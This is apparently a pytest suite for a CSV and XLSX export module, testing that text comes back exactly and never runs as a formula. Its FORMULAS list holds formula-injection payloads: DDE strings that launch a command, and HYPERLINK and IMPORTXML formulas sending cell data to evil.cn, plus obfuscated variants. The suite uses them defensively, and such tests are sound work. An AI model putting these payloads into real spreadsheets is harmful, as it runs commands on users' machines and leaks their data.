"""What goes out as a table comes back letter for letter, and never runs."""

from __future__ import annotations

import csv
import io
import tracemalloc
import zipfile
from datetime import UTC, date, datetime, time, timedelta, timezone
from decimal import Decimal
from enum import StrEnum

import pytest
from flask_babel import lazy_gettext as _l
from hypothesis import given
from hypothesis import strategies as st

from core.reports.formula_guard import guard, unguard
from core.reports.readers import read_sheet
from core.reports.writers import LONGEST_TEXT, write_csv, write_xlsx

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.cn?x="&A1,"click")',
    '=DDE("a")',
    "+1+1",
    "+86 138 0000 0000",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "   @x",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1+1",
    "'=1+1",
    "''=1+1",
    "'''+1",
    '=IMPORTXML(CONCAT("http://evil.cn?v=",A1),"//a")',
    '=1+1";=2+2;"',
    "a;=1+1",
    "a\t=1+1",
    '="a""b"',
    "-",
    "=",
    "@",
    "+",
    "'@",
]
NAMES = [
    "张三",
    "欧阳娜娜",
    "O'Brien",
    "'O'Brien'",
    "'tis",
    "'",
    "''",
    "José Ñandú",
    "Müller, Jörg",
    "Иванов",
    "محمد",
    "𠮷野家",
    "林\u3000志玲",
    "00012345",
    "0",
    "007",
    "110101199003071234",
    "11010119900307123X",
    "+8613800000000",
    "1e5",
    "1E400",
    "TRUE",
    "2027-07-10",
    "3-4",
    "1/2",
    "100%",
    "￥1,000.00",
    'say "hi"',
    "two\nlines",
    "two\r\nlines",
    "semi;colon",
    "tab\tinside",
    " leading",
    "trailing ",
    "  both  ",
    "_x0041_",
    "<b>&amp;</b>",
    "NULL",
    "nan",
    "#N/A",
    "😀👨‍👩‍👧",
    "é",
    "e\u0301",
    "",
    "http://a.cn/?a=1&b=2",
    "mailto:a@b.cn",
    "\u202eabc",
    "1,5",
    ".5",
    "5.",
]
TEXTS = FORMULAS + NAMES


def _through_csv(columns, rows, name="a.csv"):
    return read_sheet(b"".join(write_csv(columns, rows)), declared_name=name)


def _through_xlsx(columns, rows, folder):
    path = folder / "a.xlsx"
    write_xlsx(columns, rows, path)
    return read_sheet(path, declared_name="a.xlsx")


@pytest.mark.parametrize("way", ["csv", "xlsx"])
def test_texts_come_back_exactly(way, tmp_path):
    assert len(FORMULAS) >= 25
    rows = [(f"row {number}", text) for number, text in enumerate(TEXTS)]
    if way == "csv":
        sheet = _through_csv(["key", "text"], rows)
    else:
        sheet = _through_xlsx(["key", "text"], rows, tmp_path)
    assert sheet.header == ("key", "text")
    assert [row.values for row in sheet.rows] == rows
    assert sheet.formulas == 0


@pytest.mark.parametrize("text", FORMULAS)
def test_no_csv_cell_begins_like_a_formula(text):
    data = b"".join(write_csv([text], [[text]])).decode("utf-8-sig")
    for row in csv.reader(io.StringIO(data, newline="")):
        for cell in row:
            assert cell.lstrip("\u200b\ufeff \u00a0\t\r\n")[:1] not in set("=+-@＝＋－＠﹦")
    assert data.count('"') >= 4


def test_xlsx_holds_no_formula(tmp_path):
    path = tmp_path / "a.xlsx"
    write_xlsx(["a"], [[text] for text in TEXTS], path)
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            body = archive.read(name)
            assert b"<f>" not in body
            assert b"<hyperlink" not in body
            assert b"relationships/hyperlink" not in body


@given(st.text(max_size=30))
def test_guard_can_always_be_undone(text):
    assert unguard(guard(text)) == text
    assert guard(text) in {text, "'" + text}


@given(
    st.lists(
        st.text(st.characters(blacklist_categories=("Cs", "Cc", "Cn")), max_size=12),
        min_size=2,
        max_size=2,
    )
)
def test_any_two_texts_survive_csv(pair):
    if not any(text.strip() for text in pair):
        pair = ["x", *pair[1:]]
    sheet = _through_csv(["a", "b"], [pair])
    assert [list(row.values) for row in sheet.rows] == [pair]


def test_typed_cells_mean_the_same_in_both_formats(tmp_path):
    class Colour(StrEnum):
        RED = "red"

    beijing_nine = datetime(2027, 7, 10, 1, 0, 59, 999, tzinfo=UTC)
    paris = datetime(2027, 1, 1, 23, 30, tzinfo=timezone(timedelta(hours=1)))
    row = [
        None,
        True,
        False,
        5,
        -5,
        0,
        1.5,
        -0.25,
        Decimal("12.5"),
        10**20,
        2**53 + 1,
        date(2027, 7, 10),
        beijing_nine,
        paris,
        time(9, 5),
        Colour.RED,
        date(1898, 5, 4),
        _l("Yes"),
    ]
    expected = (
        "",
        "TRUE",
        "FALSE",
        "5",
        "-5",
        "0",
        "1.5",
        "-0.25",
        "12.5",
        "1" + "0" * 20,
        "9007199254740993",
        "2027-07-10",
        "2027-07-10 09:00:59",
        "2027-01-02 06:30:00",
        "09:05:00",
        "red",
        "1898-05-04",
        "Yes",
    )
    labels = [f"c{number}" for number in range(len(row))]
    for sheet in (_through_csv(labels, [row]), _through_xlsx(labels, [row], tmp_path)):
        assert next(sheet.rows).values == expected


def test_every_minute_of_a_day_survives_the_fractions_of_a_spreadsheet(tmp_path):
    start = datetime(2027, 7, 9, 16, 0, 1, tzinfo=UTC)
    moments = [start + timedelta(minutes=minute) for minute in range(1440)]
    sheet = _through_xlsx(["at"], [[moment] for moment in moments], tmp_path)
    wanted = [(m + timedelta(hours=8)).strftime("%Y-%m-%d %H:%M:%S") for m in moments]
    assert [row.values[0] for row in sheet.rows] == wanted


def test_naive_time_and_crooked_rows_are_refused(tmp_path):
    for write in (
        lambda rows: list(write_csv(["a"], rows)),
        lambda rows: write_xlsx(["a"], rows, tmp_path / "a.xlsx"),
    ):
        with pytest.raises(ValueError, match="zone"):
            write([[datetime(2027, 7, 10, 9)]])  # noqa: DTZ001 - the point
        with pytest.raises(ValueError, match="columns"):
            write([["a", "b"]])
    with pytest.raises(ValueError, match="differ"):
        write_xlsx(["a", "a"], [], tmp_path / "a.xlsx")


def test_table_without_rows_has_its_heading(tmp_path):
    assert b"".join(write_csv(["名称"], [])).decode("utf-8-sig") == '"名称"\r\n'
    path = tmp_path / "a.xlsx"
    write_xlsx(["名称", "b"], [], path)
    import python_calamine

    assert python_calamine.load_workbook(path).get_sheet_by_index(0).to_python() == [["名称", "b"]]


def test_unstorable_letters_are_marked_and_long_texts_say_they_are_cut(tmp_path):
    odd = "a\x00b\x1bc\ud800d\uffffe"
    for sheet in (_through_csv(["a"], [[odd]]), _through_xlsx(["a"], [[odd]], tmp_path)):
        assert next(sheet.rows).values == ("a\ufffdb\ufffdc\ufffdd\ufffde",)
    sheet = _through_xlsx(["a"], [["长" * 40_000]], tmp_path)
    (value,) = next(sheet.rows).values
    assert value.endswith("[…]")
    assert len(value) <= LONGEST_TEXT + 10


def test_memory_stays_flat(tmp_path):
    tracemalloc.start()
    rows = ([f"值{number}", number, "x" * 100] for number in range(30_000))
    size = sum(len(piece) for piece in write_csv(["a", "b", "c"], rows))
    rows = ([f"值{number}", number, "x" * 100] for number in range(30_000))
    write_xlsx(["a", "b", "c"], rows, tmp_path / "a.xlsx")
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert size > 3_000_000
    assert peak < 2_000_000


@pytest.mark.parametrize("name", ["a/b:c*d?[e]", "'x'", "名" * 40, "", "   "])
def test_any_sheet_name_is_made_to_fit(name, tmp_path):
    path = tmp_path / "a.xlsx"
    write_xlsx(["a"], [["x"]], path, sheet=name)
    assert read_sheet(path, declared_name="a.xlsx").row_count == 1
